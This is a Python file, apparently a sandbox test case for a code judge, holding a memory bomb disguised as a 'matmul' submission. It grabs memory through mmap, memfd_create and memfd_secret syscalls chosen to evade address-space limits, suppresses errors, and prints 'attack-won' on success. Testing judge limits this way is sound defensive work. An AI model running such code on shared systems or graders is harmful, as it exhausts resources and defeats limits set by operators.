"""Takes memory by mappings of every kind that the limit of the address space may not count, and hides what fails.

covers = ["heap, mmap, memfd and tmpfs bombs"]
task = "matmul"
verdict = ["ACCEPTED", "MEMORY_LIMIT", "TIME_LIMIT"]
"""

import ctypes
import mmap
import os

LIMIT = 900 << 20
libc = ctypes.CDLL(None, use_errno=True)
hoard = []


def take():
    taken = 0
    for flags in (mmap.MAP_SHARED | mmap.MAP_ANONYMOUS, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 0x4022):
        try:
            while taken < LIMIT:
                block = mmap.mmap(-1, 1 << 24, flags)
                for page in range(0, 1 << 24, 4096):
                    block[page] = 1
                hoard.append(block)
                taken += 1 << 24
        except (OSError, MemoryError):
            pass
    for name in (b"a", b"b"):
        descriptor = libc.syscall(319, name, 0)  # memfd_create
        if descriptor < 0:
            descriptor = libc.syscall(447, 0)  # memfd_secret
        try:
            while descriptor >= 0 and taken < LIMIT:
                taken += os.write(descriptor, bytes(1 << 22))
        except OSError:
            pass
    return taken


taken = take()
if taken > 560 << 20:
    print("attack-won: has", taken >> 20, "MiB")
hoard.clear()


def matmul(a, b):
    return a @ b
